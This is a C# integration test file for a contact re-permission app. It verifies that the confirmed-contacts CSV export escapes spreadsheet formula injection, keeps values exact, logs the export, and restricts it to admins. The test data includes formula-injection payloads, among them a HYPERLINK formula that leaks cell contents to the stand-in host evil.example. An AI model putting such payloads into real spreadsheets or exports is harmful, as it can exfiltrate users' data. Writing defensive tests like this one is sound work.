using System.Globalization;
using System.Net;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using ReOptIn.Core.Accounts;
using ReOptIn.Core.Auditing;
using ReOptIn.Core.Campaigns;
using ReOptIn.Core.Compliance;
using ReOptIn.Core.Contacts;
using ReOptIn.Core.Data;
using ReOptIn.Core.Sending;
using ReOptIn.IntegrationTests.Confirming;
using ReOptIn.IntegrationTests.Support;

namespace ReOptIn.IntegrationTests.Reporting;

/// <summary>
/// The confirmed contacts as CSV: what people typed into the form, formula payloads included, comes back
/// exactly (behind the apostrophe that keeps a spreadsheet from running it); only admins get it.
/// </summary>
public sealed class ConfirmedExportTests : IAsyncLifetime
{
    private const string PersonAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";
    private const string MarketerEmail = "marketer.person@example.com";
    private const string MarketerPassword = "a long marketer password";

    /// <summary>
    /// First and last names typed into the form: every formula start, and plain text that must survive as it is.
    /// The form trims what is typed, so tab and carriage-return starts arrive through the list's rows instead.
    /// </summary>
    private static readonly (string First, string Last)[] Names =
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+SUM(1,2)"),
        ("-2+3", "@cmd"),
        ("\tTabbed", "\rCarriage"),
        ("Zoë, \"the\" best", "O'Brien;\nNewline"),
        ("＝1+1", "Ｈｅｌｌｏ"),
    ];

    private ReOptInFactory _app = null!;
    private int _campaignId;
    private List<string> _emails = [];

    public async Task InitializeAsync()
    {
        var settings = ContactFixture.Settings();
        foreach (var (k, v) in ApiClient.BootstrapSettings) settings[k] = v;
        _app = ReOptInFactory.Sqlite(settings);
        (_campaignId, var tokens) = await SeedAsync(_app, Names.Length + 1);
        _emails = [.. tokens.Keys];
        using var person = Browser.Open(_app);
        person.Http.DefaultRequestHeaders.UserAgent.ParseAdd(PersonAgent);
        var i = 0;
        foreach (var (email, token) in tokens)
        {
            if (i == Names.Length) break; // the last one does not answer
            var (first, last) = Names[i++];
            var response = await person.SubmitAsync("/c/" + token, new Dictionary<string, string>
            {
                ["Input.FirstName"] = first, ["Input.LastName"] = last, ["Input.Consent"] = "true",
            });
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        }
        using var admin = Browser.Open(_app);
        await admin.SignInAsync(ApiClient.BootstrapSettings["Bootstrap:AdminEmail"]!, ApiClient.BootstrapSettings["Bootstrap:AdminPassword"]!);
        await admin.AddUserAsync(MarketerEmail, MarketerPassword, Roles.Marketer);
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    private static List<string[]> ReadCsv(byte[] bytes)
    {
        using var csv = CsvReader.Create(new MemoryStream(bytes), CsvReaderOptions.Default with { HasHeader = false, Encoding = new UTF8Encoding(false) });
        var rows = new List<string[]>();
        while (csv.Read()) rows.Add(csv.Current.ToArray());
        return rows;
    }

    /// <summary>What a spreadsheet must show: the value, behind an apostrophe when it starts like a formula.</summary>
    private static string Shown(string value) =>
        value.Length > 0 && "=+-@\t\r＝＋－＠".Contains(value[0], StringComparison.Ordinal) ? "'" + value : value;

    [Fact]
    public async Task The_csv_round_trips_through_CsvHelper_with_the_exact_values_and_no_cell_starts_a_formula()
    {
        using var api = ApiClient.Open(_app);
        var response = await api.Http.GetAsync($"/api/v1/campaigns/{_campaignId}/export");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal($"campaign-{_campaignId}-confirmed.csv", response.Content.Headers.ContentDisposition!.FileName!.Trim('"'));
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.False(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "No byte-order mark unless asked.");

        var rows = ReadCsv(bytes);
        Assert.Equal(["Email Address", "First Name", "Last Name", "Consent Time (UTC)", "Consent IP", "Source", "Provenance", "Campaign", "Incentive Code"], rows[0]);
        Assert.Equal(Names.Length, rows.Count - 1); // the one who did not answer is not exported
        var receipts = await ContactFixture.ReadAsync(_app, db => db.Receipts.AsNoTracking().Where(r => r.CampaignId == _campaignId).OrderBy(r => r.RequestId).ToListAsync());
        for (var i = 0; i < Names.Length; i++)
        {
            var row = rows[i + 1];
            Assert.Equal(_emails[i], row[0]);
            Assert.Equal(Shown(Names[i].First.Trim()), row[1]);
            Assert.Equal(Shown(Names[i].Last.Trim()), row[2]);
            Assert.Equal(receipts[i].SubmittedAt.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture), row[3]);
            Assert.Matches(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$", row[3]);
            Assert.Equal(receipts[i].IpAddress ?? "", row[4]);
            Assert.Equal(Shown("\r+Shop=2019"), row[5]);
            Assert.Equal(Shown(i % 2 == 0 ? $"\tFrom the fair, row {i}" : "@You bought from our shop"), row[6]);
            Assert.Equal(Shown("-Spring, \"re-permission\""), row[7]);
            Assert.Equal(Shown("=THANKS10"), row[8]);
        }
        // Nothing a spreadsheet would evaluate, anywhere.
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r＝＋－＠".Contains(cell[0], StringComparison.Ordinal), $"cell starts a formula: {cell}"));

        // Exporting is recorded: when (for the retention rule) and by whom (the audit log).
        var exportedAt = await ContactFixture.ReadAsync(_app, db => db.Campaigns.Where(c => c.Id == _campaignId).Select(c => c.ConfirmedExportedAt).SingleAsync());
        Assert.NotNull(exportedAt);
        var audit = await ContactFixture.ReadAsync(_app, db => db.AuditLog.Where(a => a.Action == AuditActions.ConfirmedExported).ToListAsync());
        Assert.Contains(audit, a => a.Subject == $"campaign {_campaignId}" && a.Detail!.StartsWith($"{Names.Length} confirmed contacts", StringComparison.Ordinal) && a.ActorName!.StartsWith("api:", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_admin_downloads_it_from_the_page_with_or_without_the_byte_order_mark()
    {
        using var admin = Browser.Open(_app);
        await admin.SignInAsync(ApiClient.BootstrapSettings["Bootstrap:AdminEmail"]!, ApiClient.BootstrapSettings["Bootstrap:AdminPassword"]!);
        var page = await admin.GetPageAsync($"/Campaigns/{_campaignId}/Report");
        Assert.Contains($"action=\"/Admin/Campaigns/{_campaignId}/Confirmed.csv\"", page, StringComparison.Ordinal);
        Assert.Contains($"href=\"/Admin/Campaigns/{_campaignId}/Receipts.jsonl\"", page, StringComparison.Ordinal);

        var withBom = await (await admin.GetAsync($"/Admin/Campaigns/{_campaignId}/Confirmed.csv?bom=true")).Content.ReadAsByteArrayAsync();
        var without = await (await admin.GetAsync($"/Admin/Campaigns/{_campaignId}/Confirmed.csv")).Content.ReadAsByteArrayAsync();
        Assert.True(withBom.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        Assert.False(without.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        Assert.Equal(without, withBom[3..]);
        Assert.Equal("Email Address", ReadCsv(without)[0][0]);
        // Excel reads the non-ASCII names only with the mark; the bytes after it are plain UTF-8.
        Assert.Contains("Zoë", Encoding.UTF8.GetString(withBom, 3, withBom.Length - 3), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/Admin/Campaigns/999/Confirmed.csv")).StatusCode);
    }

    [Fact]
    public async Task A_marketer_sees_the_counts_but_cannot_export_by_page_or_by_key()
    {
        using var marketer = Browser.Open(_app);
        Assert.Equal(HttpStatusCode.Redirect, (await marketer.SignInAsync(MarketerEmail, MarketerPassword)).StatusCode);
        var page = await marketer.GetPageAsync($"/Campaigns/{_campaignId}/Report");
        Assert.Contains("id=\"funnel\"", page, StringComparison.Ordinal);
        Assert.DoesNotContain("Confirmed.csv", page, StringComparison.Ordinal);
        var refused = await marketer.GetAsync($"/Admin/Campaigns/{_campaignId}/Confirmed.csv");
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.DoesNotContain(_emails[0], await refused.Content.ReadAsStringAsync(), StringComparison.Ordinal);

        using var admin = Browser.Open(_app);
        await admin.SignInAsync(ApiClient.BootstrapSettings["Bootstrap:AdminEmail"]!, ApiClient.BootstrapSettings["Bootstrap:AdminPassword"]!);
        var key = await admin.CreateApiKeyAsync("marketer script " + Guid.NewGuid().ToString("N")[..4], MarketerEmail);
        using var script = _app.CreateClient();
        script.DefaultRequestHeaders.Add("X-Api-Key", key);
        Assert.Equal(HttpStatusCode.Forbidden, (await script.GetAsync($"/api/v1/campaigns/{_campaignId}/export")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await script.GetAsync($"/api/v1/campaigns/{_campaignId}/report")).StatusCode);
    }

    /// <summary>One launched campaign over one list of <paramref name="count"/> contacts, each with a sent request and its link token.</summary>
    private static async Task<(int CampaignId, Dictionary<string, string> Tokens)> SeedAsync(ReOptInFactory app, int count)
    {
        await using var scope = app.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<ReOptInDb>();
        var hasher = scope.ServiceProvider.GetRequiredService<AddressHasher>();
        var now = DateTime.UtcNow;
        var sender = new SenderProfile("Shop relay", now) { FromName = "Example Shop", FromAddress = "news@shop.example.com", PostalAddress = "1 Rue de la Paix, Paris", SmtpHost = "localhost" };
        // Formula payloads in what the staff typed too: the list's name and source, the campaign's name, the incentive code.
        var list = new ContactList("\r+Shop=2019", "@You bought from our shop", now);
        db.AddRange(sender, list);
        await db.SaveChangesAsync();
        var campaign = new Campaign("-Spring, \"re-permission\"", now)
        {
            Sender = sender, SenderProfileId = sender.Id, Subject = "May we keep writing to you?", BodyMarkdown = "{{ confirm_url }}",
            Language = "en", Purpose = "A monthly newsletter", AskName = true, IncentiveDescription = "A thank-you code", IncentiveCode = "=THANKS10",
        };
        campaign.SetConsentStatement(ContactFixture.Statement);
        campaign.Lists.Add(list);
        campaign.Submit(now, null);
        campaign.Approve(now, null);
        campaign.Launch(now);
        db.Campaigns.Add(campaign);
        await db.SaveChangesAsync();

        var tokens = new Dictionary<string, string>();
        for (var i = 0; i < count; i++)
        {
            var email = $"person{i}.{Guid.NewGuid().ToString("N")[..6]}@example.com";
            var contact = new Contact(email, email, hasher.HashNormalized(email), now) { FirstName = "Listed", LastName = "Name" };
            db.Contacts.Add(contact);
            await db.SaveChangesAsync();
            // Every other row has its own provenance, which wins over the list's (as in the request's {{ contact.source }}).
            db.Memberships.Add(new ListMembership { ListId = list.Id, ContactId = contact.Id, AddedAt = now, Source = i % 2 == 0 ? $"\tFrom the fair, row {i}" : null });
            var request = new PermissionRequest(campaign.Id, contact.Id, contact.AddressHash, now);
            db.Requests.Add(request);
            db.Entry(request).Property(r => r.SourceListId).CurrentValue = list.Id;
            tokens[email] = await ContactFixture.SaveAsSentAsync(db, request, now, now.AddMinutes(-10));
        }
        return (campaign.Id, tokens);
    }
}
